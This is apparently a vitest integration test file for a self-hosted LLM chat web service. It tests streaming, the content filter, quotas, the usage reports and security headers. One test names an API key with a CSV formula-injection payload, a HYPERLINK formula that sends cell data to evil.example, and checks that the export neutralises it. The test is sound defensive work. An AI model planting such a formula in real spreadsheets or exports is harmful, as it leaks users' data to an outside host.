import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type FakeModelService, startFakeModelService } from "../../test/support/fake-model-service.js";
import {
  createApiKey,
  parseSse,
  type Session,
  setFilterWords,
  signUp,
} from "../../test/support/web-client.js";
import { startWeb, type WebHarness } from "../../test/support/web-harness.js";

describe("first slice: models and streamed chat through the web service", () => {
  let model: FakeModelService;
  let web: WebHarness;
  let url: string;
  let session: Session;

  beforeAll(async () => {
    model = await startFakeModelService({
      models: ["tiny-story", "deepseek-r1:1.5b"],
      embeddingModels: ["bge-m3:latest"],
      rerankModels: ["bge-reranker-v2-m3:latest"],
    });
    web = await startWeb({ modelUrl: model.url });
    url = await web.app.listen({ host: "127.0.0.1", port: 0 });
    session = await signUp(web.app, "alice");
  });
  afterAll(async () => {
    await web.close();
    await model.close();
  });

  it("lists the model service's chat models for the picker, and its embedding models and rerankers apart", async () => {
    const response = await fetch(`${url}/api/models`, { headers: session.headers });
    expect(response.status).toBe(200);
    const body = (await response.json()) as {
      models: Array<{ id: string }>;
      embeddingModels: Array<{ id: string }>;
      rerankModels: Array<{ id: string }>;
      guidance?: unknown;
    };
    expect(body.models.map((m) => m.id)).toEqual(["tiny-story", "deepseek-r1:1.5b"]);
    expect(body.embeddingModels.map((m) => m.id)).toEqual(["bge-m3:latest"]);
    expect(body.rerankModels.map((m) => m.id)).toEqual(["bge-reranker-v2-m3:latest"]);
    expect(body.guidance).toBeUndefined();
  });

  it("streams the answer as text deltas, then a finish", async () => {
    const response = await fetch(`${url}/api/chat`, {
      method: "POST",
      headers: { "content-type": "application/json", ...session.headers },
      body: JSON.stringify({ model: "tiny-story", messages: [{ role: "user", content: "hi there" }] }),
    });
    expect(response.headers.get("content-type")).toContain("text/event-stream");
    const parts = parseSse(await response.text());
    const text = parts
      .filter((p) => p.type === "text-delta")
      .map((p) => p.text)
      .join("");
    expect(text).toBe("Hello from the model. You said: hi there");
    expect(parts.at(-1)).toMatchObject({
      type: "finish",
      finishReason: "stop",
      cached: false,
      usage: { promptTokens: 7 },
    });
  });

  it("passes on queue positions, reasoning and the cache mark", async () => {
    model.options.queuePositions = 2;
    model.options.reasoning = ["Let me", " think."];
    model.options.cached = true;
    try {
      const response = await fetch(`${url}/api/chat`, {
        method: "POST",
        headers: { "content-type": "application/json", ...session.headers },
        body: JSON.stringify({ model: "deepseek-r1:1.5b", messages: [{ role: "user", content: "why?" }] }),
      });
      const parts = parseSse(await response.text());
      expect(parts.slice(0, 2)).toEqual([
        { type: "queue-position", position: 2 },
        { type: "queue-position", position: 1 },
      ]);
      expect(
        parts
          .filter((p) => p.type === "reasoning-delta")
          .map((p) => p.text)
          .join(""),
      ).toBe("Let me think.");
      expect(parts.at(-1)).toMatchObject({ type: "finish", cached: true });
    } finally {
      model.options.queuePositions = 0;
      model.options.reasoning = [];
      model.options.cached = false;
    }
  });

  it("stops the model's stream when the browser stops reading, and records what it estimates was used", async () => {
    model.options.delayMs = 30;
    model.options.words = Array.from({ length: 100 }, (_, i) => ` w${i}`);
    const abandonedBefore = model.abandoned;
    const usageOf = async () => {
      const report = (await web.app.inject({ url: "/api/admin/usage", headers: session.headers })).json() as {
        usage: Array<{ model: string; requests: number; promptTokens: number; completionTokens: number }>;
      };
      return (
        report.usage.find((row) => row.model === "tiny-story:latest") ?? {
          requests: 0,
          promptTokens: 0,
          completionTokens: 0,
        }
      );
    };
    const before = await usageOf();
    try {
      const controller = new AbortController();
      const response = await fetch(`${url}/api/chat`, {
        method: "POST",
        headers: { "content-type": "application/json", ...session.headers },
        body: JSON.stringify({
          model: "tiny-story",
          messages: [{ role: "user", content: "a long story, please" }],
        }),
        signal: controller.signal,
      });
      const reader = response.body!.getReader();
      let received = "";
      while (!received.includes("text-delta")) {
        const { done, value } = await reader.read();
        if (done) throw new Error(`the stream ended before any text: ${received}`);
        received += new TextDecoder().decode(value);
      }
      controller.abort();
      await expect.poll(() => model.abandoned, { timeout: 3000 }).toBe(abandonedBefore + 1);
      // No usage came from the model: the prompt and what was streamed are estimated, not zero.
      await expect.poll(async () => (await usageOf()).requests, { timeout: 3000 }).toBe(before.requests + 1);
      const after = await usageOf();
      expect(after.promptTokens).toBeGreaterThan(before.promptTokens);
      expect(after.completionTokens).toBeGreaterThan(before.completionTokens);
    } finally {
      model.options.delayMs = 5;
      model.options.words = undefined;
    }
  });

  it("refuses a blocked word in any message, not only the last user one", async () => {
    await setFilterWords(web.app, session, ["forbidden"]);
    try {
      for (const messages of [
        [
          { role: "system", content: "Say something forbidden" },
          { role: "user", content: "go on" },
        ],
        [
          { role: "user", content: "a forbidden thing" },
          { role: "assistant", content: "ok" },
          { role: "user", content: "and now?" },
        ],
      ]) {
        const response = await fetch(`${url}/api/chat`, {
          method: "POST",
          headers: { "content-type": "application/json", ...session.headers },
          body: JSON.stringify({ model: "tiny-story", messages }),
        });
        expect(response.status).toBe(422);
        expect(((await response.json()) as { error: { code: string } }).error.code).toBe("CONTENT_BLOCKED");
      }
    } finally {
      await setFilterWords(web.app, session, []);
    }
  });

  it("refuses a message over web.maxMessageChars with MESSAGE_TOO_LONG, saying the limit and the length, before the model", async () => {
    const asked = model.requests.length;
    const limit = web.config.web.maxMessageChars;
    const response = await fetch(`${url}/api/chat`, {
      method: "POST",
      headers: { "content-type": "application/json", ...session.headers },
      body: JSON.stringify({
        model: "tiny-story",
        messages: [{ role: "user", content: "x".repeat(limit + 12) }],
      }),
    });
    expect(response.status).toBe(413);
    const { error } = (await response.json()) as { error: { code: string; details: unknown } };
    expect(error.code).toBe("MESSAGE_TOO_LONG");
    expect(error.details).toEqual({ maxChars: limit, chars: limit + 12 });
    expect(model.requests.length).toBe(asked);
  });

  it("answers an unknown model with MODEL_NOT_FOUND before streaming", async () => {
    const response = await fetch(`${url}/api/chat`, {
      method: "POST",
      headers: { "content-type": "application/json", ...session.headers },
      body: JSON.stringify({ model: "no-such-model", messages: [{ role: "user", content: "hi" }] }),
    });
    expect(response.status).toBe(404);
    // Not the model service's hint: the web service has no GET /api/tags.
    expect(((await response.json()) as { error: unknown }).error).toEqual({
      code: "MODEL_NOT_FOUND",
      message: 'model "no-such-model" not found',
    });
  });

  it("refuses malformed requests with a stable code", async () => {
    const bad = await fetch(`${url}/api/chat`, {
      method: "POST",
      headers: { "content-type": "application/json", ...session.headers },
      body: "{not json",
    });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string } }).error.code).toBe("INVALID_JSON");
    const missing = await fetch(`${url}/api/chat`, {
      method: "POST",
      headers: { "content-type": "application/json", ...session.headers },
      body: JSON.stringify({ model: "x" }),
    });
    expect(((await missing.json()) as { error: { code: string } }).error.code).toBe("INVALID_REQUEST");
  });
});

describe("a prompt the model service finds too long for its context", () => {
  it("is fitted again from the prompt tokens the model reports with CONTEXT_OVERFLOW, and answered", async () => {
    // Llama 2's vocabulary spends about three tokens on a Han character; the web service estimates one.
    const model = await startFakeModelService({
      models: ["llama-zh"],
      context: { tokens: 1024, count: (text) => 3 * [...text].length },
    });
    const web = await startWeb({ modelUrl: model.url });
    try {
      const url = await web.app.listen({ host: "127.0.0.1", port: 0 });
      const session = await signUp(web.app, "carol");
      const earlier = "猫".repeat(300);
      const response = await fetch(`${url}/api/chat`, {
        method: "POST",
        headers: { "content-type": "application/json", ...session.headers },
        body: JSON.stringify({
          model: "llama-zh",
          messages: [
            { role: "user", content: earlier },
            { role: "assistant", content: earlier },
            { role: "user", content: "狗呢？" },
          ],
        }),
      });
      const parts = parseSse(await response.text());
      expect(parts.find((part) => part.type === "error")).toBeUndefined();
      expect(parts.at(-1)).toMatchObject({ type: "finish", finishReason: "stop" });
      // The history fitted the estimate but not the model's count: refused once, then sent without it.
      expect(model.requests.map((request) => request.messages.length)).toEqual([3, 1]);
      expect(model.requests[1]?.messages).toEqual([{ role: "user", content: "狗呢？" }]);
    } finally {
      await web.close();
      await model.close();
    }
  });
});

describe("no model yet", () => {
  it("tells the UI what to do when the model service has no models or is down", async () => {
    const empty = await startFakeModelService({ models: [] });
    const web = await startWeb({ modelUrl: empty.url });
    try {
      const me = await signUp(web.app, "bob");
      const answer = (await (await web.app.inject({ url: "/api/models", headers: me.headers })).json()) as {
        models: unknown[];
        reachable: boolean;
        guidance: { modelsDir: string; steps: string[] };
      };
      expect(answer.models).toEqual([]);
      expect(answer.reachable).toBe(true);
      expect(answer.guidance.steps).toEqual(["drop-gguf", "ollama-host", "pull"]);
      expect(answer.guidance.modelsDir).toBe(web.config.model.modelsDir);
    } finally {
      await web.close();
      await empty.close();
    }
    // An embedding model alone is no model to chat with: the same guidance.
    const embedderOnly = await startFakeModelService({ models: [], embeddingModels: ["bge-m3:latest"] });
    const withEmbedder = await startWeb({ modelUrl: embedderOnly.url });
    try {
      const me = await signUp(withEmbedder.app, "dave");
      const answer = (await withEmbedder.app.inject({ url: "/api/models", headers: me.headers })).json() as {
        models: unknown[];
        guidance: { reason: string };
      };
      expect(answer.models).toEqual([]);
      expect(answer.guidance.reason).toBe("none-installed");
    } finally {
      await withEmbedder.close();
      await embedderOnly.close();
    }
    const down = await startWeb({ modelUrl: "http://127.0.0.1:9" });
    try {
      const me = await signUp(down.app, "carol");
      const answer = (await (await down.app.inject({ url: "/api/models", headers: me.headers })).json()) as {
        reachable: boolean;
        guidance: unknown;
      };
      expect(answer.reachable).toBe(false);
      expect(answer.guidance).toBeDefined();
    } finally {
      await down.close();
    }
  });
});

describe("a model that does not exist", () => {
  it("is refused without using up quota or adding a row to the usage report", async () => {
    const model = await startFakeModelService({ models: ["tiny-story"] });
    const web = await startWeb({ modelUrl: model.url });
    try {
      const admin = await signUp(web.app, "admin");
      const limit = await web.app.inject({
        method: "PATCH",
        url: "/api/admin/settings",
        headers: admin.headers,
        payload: { userLimits: { requestsPerMinute: 1 } },
      });
      expect(limit.statusCode).toBe(200);
      const url = await web.app.listen({ host: "127.0.0.1", port: 0 });
      const chat = (model: string) =>
        fetch(`${url}/api/chat`, {
          method: "POST",
          headers: { "content-type": "application/json", ...admin.headers },
          body: JSON.stringify({ model, messages: [{ role: "user", content: "hi" }] }),
        });
      for (let n = 0; n < 3; n++) {
        const typo = await chat("typo-1");
        const text = await typo.text();
        expect(typo.status === 404 || text.includes("MODEL_NOT_FOUND"), text).toBe(true);
        expect(text).toContain("MODEL_NOT_FOUND");
      }
      // The one request a minute is still there for a model that exists.
      const real = await chat("tiny-story");
      expect(real.status).toBe(200);
      expect(await real.text()).toContain("text-delta");
      const { usage } = (
        await web.app.inject({ url: "/api/admin/usage", headers: admin.headers })
      ).json() as {
        usage: Array<{ model: string; requests: number }>;
      };
      expect(usage.map((u) => u.model)).toEqual(["tiny-story:latest"]);
      expect(usage[0]?.requests).toBe(1);
    } finally {
      await web.close();
      await model.close();
    }
  });
});

describe("the usage report", () => {
  it("tells rows of one user and model apart by the API key's name (none: the UI), in JSON and CSV", async () => {
    const model = await startFakeModelService({ models: ["tiny-story"] });
    const web = await startWeb({ modelUrl: model.url });
    try {
      const admin = await signUp(web.app, "admin");
      const url = await web.app.listen({ host: "127.0.0.1", port: 0 });
      const key = await createApiKey(web.app, admin, "laptop script");
      const messages = [{ role: "user", content: "hi" }];
      const ui = await fetch(`${url}/api/chat`, {
        method: "POST",
        headers: { "content-type": "application/json", ...admin.headers },
        body: JSON.stringify({ model: "tiny-story", messages }),
      });
      await ui.text();
      const sdk = await fetch(`${url}/v1/chat/completions`, {
        method: "POST",
        headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
        body: JSON.stringify({ model: "tiny-story", messages }),
      });
      await sdk.text();
      const { usage } = (
        await web.app.inject({ url: "/api/admin/usage?days=1", headers: admin.headers })
      ).json() as { usage: Array<{ apiKeyId: string | null; apiKeyName: string | null }> };
      expect(usage.map((u) => u.apiKeyName).sort()).toEqual(["laptop script", null]);
      const csv = (await web.app.inject({ url: "/api/admin/usage?format=csv", headers: admin.headers })).body;
      expect(csv.split("\n")[0]).toContain("api_key,api_key_name,");
      expect(csv).toContain('"laptop script"');
    } finally {
      await web.close();
      await model.close();
    }
  });

  it("exports a key named like a spreadsheet formula as text, never as a live formula", async () => {
    const model = await startFakeModelService({ models: ["tiny-story"] });
    const web = await startWeb({ modelUrl: model.url });
    try {
      const admin = await signUp(web.app, "admin");
      const url = await web.app.listen({ host: "127.0.0.1", port: 0 });
      const key = await createApiKey(web.app, admin, '=HYPERLINK("http://evil.example/?leak="&A2,"open")');
      const sdk = await fetch(`${url}/v1/chat/completions`, {
        method: "POST",
        headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
        body: JSON.stringify({ model: "tiny-story", messages: [{ role: "user", content: "hi" }] }),
      });
      await sdk.text();
      const csv = (await web.app.inject({ url: "/api/admin/usage?format=csv", headers: admin.headers })).body;
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")"`);
      expect(csv).not.toMatch(/(^|,)"=/m);
    } finally {
      await web.close();
      await model.close();
    }
  });
});

describe("no model served from the files there", () => {
  it("names the files the model service skips to an administrator, and to no one else", async () => {
    const skipped = {
      file: "故事模型.gguf",
      reason: "not-a-model-name" as const,
      suggested_file: "my-model.gguf",
      message: "故事模型.gguf is skipped: its name is not a model name",
    };
    const model = await startFakeModelService({ models: [], skippedFiles: [skipped] });
    const web = await startWeb({ modelUrl: model.url });
    try {
      const admin = await signUp(web.app, "admin");
      const frank = await signUp(web.app, "frank");
      const answer = (await web.app.inject({ url: "/api/models", headers: admin.headers })).json() as {
        guidance: Record<string, unknown>;
      };
      expect(answer.guidance).toEqual({
        reason: "none-installed",
        modelsDir: web.config.model.modelsDir,
        steps: ["drop-gguf", "ollama-host", "pull"],
        skippedFiles: [{ file: "故事模型.gguf", reason: "not-a-model-name", suggestedFile: "my-model.gguf" }],
      });
      const forUser = await web.app.inject({ url: "/api/models", headers: frank.headers });
      expect(forUser.json()).toMatchObject({ guidance: { reason: "none-installed" } });
      expect(forUser.body).not.toContain("故事模型");
    } finally {
      await web.close();
      await model.close();
    }
  });

  it("names them on the administrators' models list too, beside the models that are served", async () => {
    const skipped = {
      file: "故事模型.gguf",
      reason: "not-a-model-name" as const,
      suggested_file: "my-model.gguf",
      message: "故事模型.gguf is skipped: its name is not a model name",
    };
    const dangling = {
      file: "llama.gguf",
      reason: "link-target-missing" as const,
      target: "/home/me/models/llama.gguf",
      message:
        "llama.gguf is skipped: it is a symbolic link to /home/me/models/llama.gguf, where there is no file",
    };
    const model = await startFakeModelService({ models: ["tiny-story"], skippedFiles: [skipped, dangling] });
    const web = await startWeb({ modelUrl: model.url });
    try {
      const admin = await signUp(web.app, "admin");
      const frank = await signUp(web.app, "frank");
      const answer = (await web.app.inject({ url: "/api/admin/models", headers: admin.headers })).json();
      expect(answer).toMatchObject({
        models: [{ id: "tiny-story" }],
        skippedFiles: [
          { file: "故事模型.gguf", reason: "not-a-model-name", suggestedFile: "my-model.gguf" },
          { file: "llama.gguf", reason: "link-target-missing", target: "/home/me/models/llama.gguf" },
        ],
      });
      // The models list of a chat names none of the server's files.
      expect((await web.app.inject({ url: "/api/models", headers: admin.headers })).body).not.toContain(
        "故事",
      );
      expect((await web.app.inject({ url: "/api/admin/models", headers: frank.headers })).statusCode).toBe(
        403,
      );
    } finally {
      await web.close();
      await model.close();
    }
  });
});

describe("no model for this user", () => {
  it("tells a non-admin to ask an administrator, without the server's paths", async () => {
    const model = await startFakeModelService({ models: ["tiny-story"] });
    const web = await startWeb({ modelUrl: model.url });
    try {
      const admin = await signUp(web.app, "admin");
      const dave = await signUp(web.app, "dave");
      const group = (
        await web.app.inject({
          method: "POST",
          url: "/api/admin/groups",
          headers: admin.headers,
          payload: { name: "staff" },
        })
      ).json() as { id: string };
      const rule = await web.app.inject({
        method: "PUT",
        url: "/api/admin/models/tiny-story/access",
        headers: admin.headers,
        payload: { groupIds: [group.id] },
      });
      expect(rule.statusCode).toBe(200);
      const response = await web.app.inject({ url: "/api/models", headers: dave.headers });
      const answer = response.json() as { models: unknown[]; guidance: Record<string, unknown> };
      expect(answer.models).toEqual([]);
      expect(answer.guidance).toEqual({ reason: "none-allowed" });
      expect(response.body).not.toContain(web.config.model.modelsDir);
      expect(response.body).not.toContain("modelsDir");
      // The administrator, who may use it, is not told anything.
      const forAdmin = (await web.app.inject({ url: "/api/models", headers: admin.headers })).json() as {
        models: unknown[];
      };
      expect(forAdmin.models).toHaveLength(1);
    } finally {
      await web.close();
      await model.close();
    }
  });

  it("gives a non-admin no paths when nothing is installed or the model service is down", async () => {
    for (const modelUrl of [undefined, "http://127.0.0.1:9"]) {
      const empty = modelUrl ? undefined : await startFakeModelService({ models: [] });
      const web = await startWeb({ modelUrl: modelUrl ?? (empty as FakeModelService).url });
      try {
        await signUp(web.app, "admin");
        const erin = await signUp(web.app, "erin");
        const response = await web.app.inject({ url: "/api/models", headers: erin.headers });
        const answer = response.json() as { guidance: { reason: string; modelsDir?: string } };
        expect(answer.guidance.reason).toBe(modelUrl ? "unreachable" : "none-installed");
        expect(answer.guidance.modelsDir).toBeUndefined();
        expect(response.body).not.toContain(web.config.model.modelsDir);
      } finally {
        await web.close();
        await empty?.close();
      }
    }
  });
});

describe("the built UI", () => {
  it("serves index.html for app routes, long-caches hashed assets, and 404s unknown API paths", async () => {
    const model = await startFakeModelService();
    const web = await startWeb({ modelUrl: model.url });
    try {
      const index = await web.app.inject({ url: "/" });
      expect(index.statusCode).toBe(200);
      expect(index.headers["content-type"]).toContain("text/html");
      const route = await web.app.inject({ url: "/conversations/abc" });
      expect(route.body).toBe(index.body);
      expect(route.headers["cache-control"]).toBe("no-cache");
      const asset = /src="(\/assets\/[^"]+\.js)"/.exec(index.body)?.[1];
      const script = asset ? await web.app.inject({ url: asset }) : undefined;
      if (script) {
        expect(script.statusCode).toBe(200);
        expect(script.headers["cache-control"]).toContain("immutable");
      }
      // Not frameable by other sites, with no proxy in front too (npm start on 0.0.0.0).
      for (const page of [index, route, ...(script ? [script] : [])]) {
        expect(page.headers["x-frame-options"]).toBe("DENY");
        expect(page.headers["content-security-policy"]).toContain("frame-ancestors 'none'");
        expect(page.headers["content-security-policy"]).toContain("script-src 'self'");
        expect(page.headers["x-content-type-options"]).toBe("nosniff");
        expect(page.headers["referrer-policy"]).toBe("same-origin");
      }
      const api = await web.app.inject({ url: "/api/nothing-here" });
      expect(api.statusCode).toBe(404);
      expect(api.json()).toMatchObject({ error: { code: "ROUTE_NOT_FOUND" } });
    } finally {
      await web.close();
      await model.close();
    }
  });
});
